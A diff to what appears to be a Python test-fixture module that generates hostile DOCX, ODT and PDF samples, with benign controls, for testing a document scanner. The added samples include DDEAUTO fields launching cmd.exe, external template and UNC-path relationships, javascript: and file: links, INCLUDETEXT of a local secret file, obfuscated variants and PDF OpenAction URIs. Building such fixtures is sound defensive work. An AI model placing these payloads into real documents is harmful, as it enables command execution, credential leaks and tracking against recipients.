@@ -121,7 +121,8 @@ def odt(**parts: bytes) -> bytes:
     found = {
         "mimetype": kind,
         "META-INF/manifest.xml": b'<manifest media-type="' + kind + b'"/>',
-        "content.xml": b"<office:document-content><office:body><office:text/></office:body></office:document-content>",
+        "content.xml": b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">'
+        b"<office:body><office:text/></office:body></office:document-content>",
     }
     return packet({**found, **{name.replace("__", "/"): content for name, content in parts.items()}})
 
@@ -152,6 +153,138 @@ def packets() -> Iterator[bytes]:
     yield packet({"classes.dex": b"dex", "AndroidManifest.xml": b"<a/>"})
     yield packet({})
     yield packet({f"a{n}.xml": b"" for n in range(1500)})
+
+
+WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def worded(body: str) -> bytes:
+    """A DOCX whose text is this."""
+    return docx(
+        **{
+            "word__document.xml": f'<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>'.encode()
+        }
+    )
+
+
+def related(relation: str) -> bytes:
+    """A DOCX whose text has this relationship."""
+    rels = f'<Relationships xmlns="{PACKAGE}">{relation}</Relationships>'
+    return docx(**{"word___rels__document.xml.rels": rels.encode()})
+
+
+def fields(*runs: str) -> str:
+    """A field whose instruction is cut in these runs."""
+    said = "".join(f'<w:r><w:instrText xml:space="preserve">{run}</w:instrText></w:r>' for run in runs)
+    return (
+        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{said}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+        '<w:r><w:t>!</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    )
+
+
+def linked(body: str) -> bytes:
+    """An ODT whose text is this."""
+    spaces = "".join(
+        f' xmlns:{prefix}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
+        for prefix, name in (("office", "office"), ("text", "text"), ("draw", "drawing"))
+    )
+    content = (
+        f'<office:document-content{spaces} xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><office:text>'
+        f"{body}</office:text></office:body></office:document-content>"
+    )
+    return odt(**{"content.xml": content.encode()})
+
+
+def reaching_texts() -> Iterator[bytes]:
+    """Texts that start a program, or read a file elsewhere, once they are opened."""
+    template = (
+        f"<Relationship Id='r1' Type='{OFFICE}/attachedTemplate' Target='http://exemple.invalid/a.dotm'"
+        " TargetMode='External'/>"
+    )
+    yield related(template)
+    yield related(template.replace("attachedTemplate", "attached&#84;emplate"))
+    yield related(
+        template.replace("<Relationship", "<p:Relationship").replace(" Id=", f" xmlns:p='{PACKAGE}'\n Id=")
+    )
+    for target in ("file:///C:/photo.png", "file://serveur/partage/photo.png", "\\\\serveur\\photo.png",
+                   "https://exemple.invalid/suivi.png"):  # fmt: skip
+        yield related(
+            f'<Relationship Id="r1" Type="{OFFICE}/image" Target="{target}" TargetMode="External"/>'
+        )
+    yield related(f'<Relationship Id="r1" Type="{OFFICE}/image" Target="file:///C:/photo.png"/>')
+    for target in (
+        "javascript:alert(1)",
+        "java&#10;script:alert(1)",
+        "file://serveur/partage",
+        "ms-word:ofe",
+    ):
+        yield related(
+            f'<Relationship Id="r1" Type="{OFFICE}/hyperlink" Target="{target}" TargetMode="External"/>'
+        )
+    yield worded(fields('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'))
+    yield worded(fields(" DDE", "AUTO", ' "cmd"'))
+    yield worded(fields('ddeauto"cmd" "/k calc"'))
+    yield worded("<w:fldSimple w:instr=' DDE excel liste.xls '/>")
+    yield worded(fields("</w:instrText></w:r>" + fields("QUOTE 68 68 69") + "<w:r><w:instrText> cmd"))
+    yield worded('<w:r><w:delInstrText>DDEAUTO "cmd"</w:delInstrText></w:r>')
+    yield worded(fields('INCLUDEPICTURE "https://exemple.invalid/suivi.png" \\d'))
+    yield worded(fields("INCLUDETEXT c:\\secret.docx"))
+    yield worded('<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="file://serveur/photo.png"/>')
+    yield docx(**{"word__settings.xml": f'<w:settings xmlns:w="{WORD}"><w:mailMerge/></w:settings>'.encode()})
+    hidden = f'<w:document xmlns:w="{WORD}">{fields("DDEAUTO cmd")}</w:document>'
+    yield docx(**{"word__media__text.png": hidden.encode()})
+    yield docx(**{"word__media__text.jpg": hidden.encode("utf-16")})
+    yield docx(**{"word__settings.xml": b"<w:settings>"})
+    yield linked('<draw:image xlink:href="file:///C:/photo.png"/>')
+    yield linked("<draw:image xlink:href='//serveur/partage/photo.png' xlink:type='simple'/>")
+    yield linked('<draw:floating-frame xlink:href="https://exemple.invalid"/>')
+    yield linked('<text:section-source xlink:href="https://exemple.invalid/a.odt"/>')
+    yield linked('<office:dde-source office:dde-application="soffice"/>')
+    yield linked('<text:a xlink:href="vnd.sun.star.script:Standard.Module1.Main">ici</text:a>')
+
+
+def quiet_texts() -> Iterator[bytes]:
+    """What an honest letter holds: page numbers, a summary, a formula, links, a picture of its own."""
+    yield worded(fields(" PAGE ") + fields(" TOC \\o ") + fields(' HYPERLINK "https://exemple.test" '))
+    yield worded(fields("=</w:instrText></w:r>" + fields("PAGE") + "<w:r><w:instrText> - 1"))
+    yield worded(
+        fields("IF </w:instrText></w:r>" + fields("MERGEFIELD ville") + '<w:r><w:instrText> = "Lyon"')
+    )
+    yield worded("<w:r><w:t>Le DDEAUTO et file:///C:/ sont des mots.</w:t></w:r>")
+    yield related(
+        f'<Relationship Id="r1" Type="{OFFICE}/hyperlink" Target="mailto:a@exemple.test" TargetMode="External"/>'
+        f'<Relationship Id="r2" Type="{OFFICE}/image" Target="media/image1.png"/>'
+    )
+    yield linked(
+        '<text:a xlink:type="simple" xlink:href="https://exemple.test">ici</text:a>'
+        '<text:a xlink:href="#fin">fin</text:a>'
+        '<draw:image xlink:href="Pictures/1.png"/>'
+    )
+
+
+def reaching_pdfs() -> Iterator[bytes]:
+    """PDFs whose links act."""
+    for address in (
+        "javascript:alert(1)",
+        " Java\tScript:alert(1)",
+        "file:///C:/secret.txt",
+        "vbscript:x",
+        "data:text/html,x",
+    ):
+        document = pikepdf.open(io.BytesIO(pdf()))
+        link = pikepdf.Dictionary(
+            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=pikepdf.Array([0, 0, 9, 9]),
+            A=document.make_indirect(_action("URI", URI=pikepdf.String(address))),
+            PA=_action("URI", URI=pikepdf.String(address)),
+        )  # fmt: skip
+        document.pages[0].Annots = pikepdf.Array([link])
+        document.Root.OpenAction = _action("URI", URI=pikepdf.String(address))
+        document.Root.URI = pikepdf.Dictionary(Base=pikepdf.String(address))
+        out = io.BytesIO()
+        document.save(out)
+        yield out.getvalue()
 
 
 def sized_png(width: int, height: int) -> bytes:
@@ -211,6 +344,7 @@ def damaged(number: int, seed: int = 20261129) -> Iterator[bytes]:
 def hostile_files() -> list[tuple[str, bytes]]:
     """(claimed name, bytes) of at least 300 files."""
     found = [b"", b"\xff", b"%PDF-", b"PK\x03\x04", *SCRIPTS, *polyglots(), *acting_pdfs(), *packets()]
+    found += [*reaching_texts(), *reaching_pdfs(), *quiet_texts()]
     found += [bomb_pdf(), located_photo(), *damaged(120)]
     found += [sized_png(60_000, 60_000), sized_png(30_000, 1000), sized_png(0, 5), sized_jpeg(65_000, 65_000)]
     found += [picture("PNG", mode=mode) for mode in ("1", "L", "P", "LA")]
